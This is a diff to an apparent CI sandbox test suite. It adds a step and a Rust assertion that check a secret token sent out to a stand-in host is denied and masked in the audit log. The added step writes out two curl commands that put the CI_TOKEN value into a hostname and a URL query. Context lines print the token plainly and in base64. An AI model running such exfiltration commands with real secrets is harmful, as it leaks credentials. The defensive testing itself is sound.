@@ -292,6 +292,10 @@ steps:
       if echo x > /run/secrets/CI_KEY 2>/dev/null; then echo FILE-WRITABLE; fi
       echo "PRINTED=$CI_TOKEN"
       printf %s "$CI_TOKEN" | base64 | sed 's/^/B64=/'
+  - name: a secret sent out as a name and a path is denied and masked in the audit log
+    run: |
+      curl -s -m 5 -o /dev/null "http://$CI_TOKEN.exfil.test/" || true
+      curl -s -m 5 -o /dev/null "http://allowed.test:81/?t=$CI_TOKEN" || true
   - name: no core dump can carry the environment out
     run: |
       python3 -c 'import resource; print("CORE-LIMIT", resource.getrlimit(resource.RLIMIT_CORE))'
@@ -357,6 +361,13 @@ steps:
         assert!(!event.to_string().contains(&secrets.release_token));
         assert!(!event.to_string().contains(&secrets.ci_token));
     }
+    // The exfiltration attempts were recorded, with the value masked.
+    assert!(
+        events
+            .iter()
+            .any(|e| e["verdict"] == "deny" && e["host"] == "***.exfil.test"),
+        "{events:#?}"
+    );
     assert_no_plaintext(&world, &secrets);
 }
 
